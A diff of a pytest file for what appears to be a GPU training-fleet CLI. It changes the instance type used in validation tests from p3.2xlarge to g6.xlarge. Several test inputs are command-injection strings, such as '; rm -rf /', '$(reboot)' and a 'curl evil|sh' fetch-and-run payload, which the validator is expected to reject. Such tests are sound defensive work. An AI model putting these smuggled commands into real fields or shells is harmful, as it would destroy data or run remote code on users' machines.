@@ -10,7 +10,7 @@ BASE = {
     "name": "chk",
     "workload": "dcgan64",
     "hours": "0.5",
-    "instances": "\n  - p3.2xlarge",
+    "instances": "\n  - g6.xlarge",
 }
 
 
@@ -37,11 +37,11 @@ def campaign(**changes) -> bytes:
         ({"max_cost_usd": ".nan"}, "'max_cost_usd' must be a number above 0 and at most 100000"),
         ({"max_cost_usd": "1e308"}, "'max_cost_usd' must be a number above 0 and at most 100000"),
         ({"workload": "dcgan65"}, "unknown workload 'dcgan65'"),
-        ({"instances": "\n  - {type: p3.2xlarge, options: {nproc: 64}}"}, "nproc 64 on p3.2xlarge"),
-        ({"instances": "\n  - {type: p3.2xlarge, backend: hpu}"}, "backend 'hpu' cannot run there"),
+        ({"instances": "\n  - {type: g6.xlarge, options: {nproc: 64}}"}, "nproc 64 on g6.xlarge"),
+        ({"instances": "\n  - {type: g6.xlarge, backend: hpu}"}, "backend 'hpu' cannot run there"),
         ({"instances": "\n  - {type: dl1.24xlarge, backend: cuda}"}, "backend 'cuda' cannot run there"),
-        ({"instances": "\n  - {type: p3.2xlarge, region: 'us-east-1; rm -rf ~'}"}, "is not a plain region"),
-        ({"instances": "\n  - {type: p3.2xlarge, cloud: 'aws`id`'}"}, "is not a plain cloud"),
+        ({"instances": "\n  - {type: g6.xlarge, region: 'us-east-1; rm -rf ~'}"}, "is not a plain region"),
+        ({"instances": "\n  - {type: g6.xlarge, cloud: 'aws`id`'}"}, "is not a plain cloud"),
         ({"source": "{git: 'https://x.org/r.git; curl evil|sh'}"}, "is not a plain git"),
         ({"source": "{git: 'https://x.org/r.git', ref: '$(reboot)'}"}, "is not a plain ref"),
         ({"records": "{bucket: 's3://bkt/x; rm -rf /'}"}, "bucket 's3://bkt/x; rm -rf /'"),
@@ -62,7 +62,7 @@ def test_fleet_plan_refuses_a_non_utf8_file(tmp_path, capsys):
 @pytest.mark.parametrize("value", ["nan", "inf", "1e308"])
 def test_fleet_plan_inline_refuses_non_finite_numbers(tmp_path, capsys, value):
     for option in ("--hours", "--max-cost"):
-        code = main(["fleet", "plan", "--instances", "p3.2xlarge", option, value, "--out", str(tmp_path)])
+        code = main(["fleet", "plan", "--instances", "g6.xlarge", option, value, "--out", str(tmp_path)])
         err = capsys.readouterr().err
         assert code == 2 and "must be a number above 0 and at most" in err, err
 
